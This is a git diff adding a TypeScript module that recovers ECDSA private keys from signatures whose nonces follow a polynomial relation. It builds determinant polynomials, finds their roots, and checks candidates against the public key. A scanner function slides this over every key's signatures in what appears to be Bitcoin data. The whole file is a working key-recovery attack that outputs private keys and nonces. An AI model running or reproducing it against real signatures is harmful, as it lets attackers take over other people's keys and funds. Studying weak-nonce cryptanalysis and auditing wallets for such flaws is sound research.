@@ -0,0 +1,126 @@
+import { DenovoSignature } from '../types/denovo';
+import { matchPublicKey } from './bitcoinAnalysis';
+import { interpolate, polyRoots } from './polynomial';
+import { mod, modInverse, N } from './secp256k1';
+
+export const MAX_POLYNONCE_DEGREE = 4;
+
+export interface PolynonceRecovery {
+  publicKey: string;
+  privateKey: string;
+  nonce: string; // k of the first signature in the window
+  degree: number;
+  signatures: DenovoSignature[];
+}
+
+// Unknown coefficients a_0..a_degree plus the key need degree + 3 signatures
+export const polynonceSignaturesNeeded = (degree: number): number => degree + 3;
+
+const determinantMod = (matrix: bigint[][], modulus: bigint = N): bigint => {
+  const rows = matrix.map(row => row.map(value => mod(value, modulus)));
+  let determinant = 1n;
+
+  for (let col = 0; col < rows.length; col++) {
+    const pivot = rows.findIndex((row, i) => i >= col && row[col] !== 0n);
+    if (pivot === -1) return 0n;
+    if (pivot !== col) {
+      [rows[col], rows[pivot]] = [rows[pivot], rows[col]];
+      determinant = mod(-determinant, modulus);
+    }
+    determinant = mod(determinant * rows[col][col], modulus);
+    const inverse = modInverse(rows[col][col], modulus);
+    for (let i = col + 1; i < rows.length; i++) {
+      const factor = mod(rows[i][col] * inverse, modulus);
+      if (factor === 0n) continue;
+      rows[i] = rows[i].map((value, j) => mod(value - factor * rows[col][j], modulus));
+    }
+  }
+
+  return determinant;
+};
+
+// Each nonce is linear in the key: k_i = sign_i * (z_i + r_i*d) / s_i. If
+// k_{i+1} = a_0 + a_1*k_i + ... + a_m*k_i^m for every i, the vectors
+// (1, k_i, ..., k_i^m, k_{i+1}) over m + 2 consecutive steps are linearly
+// dependent, so their determinant - a polynomial in d of degree
+// m(m+1)/2 + 1 - vanishes at the real key. The polynomial is rebuilt from
+// its values at small d and its roots are checked against the public key.
+// Low-S normalisation may have negated any nonce, so each sign choice is
+// tried; negating every nonce keeps the relation polynomial, so the first
+// sign stays fixed.
+export const solvePolynonce = (signatures: DenovoSignature[], degree: number): PolynonceRecovery | null => {
+  if (degree < 1 || degree > MAX_POLYNONCE_DEGREE) {
+    throw new Error(`Polynonce degree must be between 1 and ${MAX_POLYNONCE_DEGREE}`);
+  }
+  if (signatures.length !== polynonceSignaturesNeeded(degree)) {
+    throw new Error(`A degree ${degree} polynonce needs exactly ${polynonceSignaturesNeeded(degree)} signatures`);
+  }
+
+  const publicKey = signatures[0].publicKey;
+  const terms = signatures.map(sig => {
+    const inverse = modInverse(BigInt('0x' + sig.s), N);
+    return {
+      alpha: mod(BigInt('0x' + sig.z) * inverse, N),
+      beta: mod(BigInt('0x' + sig.r) * inverse, N)
+    };
+  });
+  const polynomialDegree = (degree * (degree + 1)) / 2 + 1;
+  const points = Array.from({ length: polynomialDegree + 1 }, (_, i) => BigInt(i));
+
+  for (let mask = 0; mask < 2 ** (signatures.length - 1); mask++) {
+    const signs = terms.map((_, i) => (i > 0 && (mask >> (i - 1)) & 1 ? -1n : 1n));
+    const nonceAt = (i: number, d: bigint) => mod(signs[i] * (terms[i].alpha + terms[i].beta * d), N);
+
+    const values = points.map(d => {
+      const matrix = Array.from({ length: degree + 2 }, (_, i) => {
+        const k = nonceAt(i, d);
+        const powers = [1n];
+        for (let j = 1; j <= degree; j++) powers.push(mod(powers[j - 1] * k, N));
+        return [...powers, nonceAt(i + 1, d)];
+      });
+      return determinantMod(matrix);
+    });
+    if (values.every(value => value === 0n)) continue;
+
+    const privateKey = polyRoots(interpolate(points, values))
+      .find(root => root !== 0n && matchPublicKey(root, publicKey) !== null);
+    if (privateKey !== undefined) {
+      return {
+        publicKey,
+        privateKey: privateKey.toString(16).padStart(64, '0'),
+        nonce: nonceAt(0, privateKey).toString(16).padStart(64, '0'),
+        degree,
+        signatures
+      };
+    }
+  }
+
+  return null;
+};
+
+// Slides a window of degree + 3 consecutive signatures over each ECDSA key's
+// signatures, in the order given. One recovery is reported per key.
+export const findPolynonces = (signatures: DenovoSignature[], degree: number): PolynonceRecovery[] => {
+  const byKey = new Map<string, DenovoSignature[]>();
+  signatures.forEach(sig => {
+    if (sig.scheme !== 'ECDSA' || !sig.z || !sig.publicKey) return;
+    const key = sig.publicKey.toLowerCase();
+    if (!byKey.has(key)) byKey.set(key, []);
+    byKey.get(key)!.push(sig);
+  });
+
+  const window = polynonceSignaturesNeeded(degree);
+  const recoveries: PolynonceRecovery[] = [];
+
+  byKey.forEach(sigs => {
+    for (let start = 0; start + window <= sigs.length; start++) {
+      const result = solvePolynonce(sigs.slice(start, start + window), degree);
+      if (result) {
+        recoveries.push(result);
+        return;
+      }
+    }
+  });
+
+  return recoveries;
+};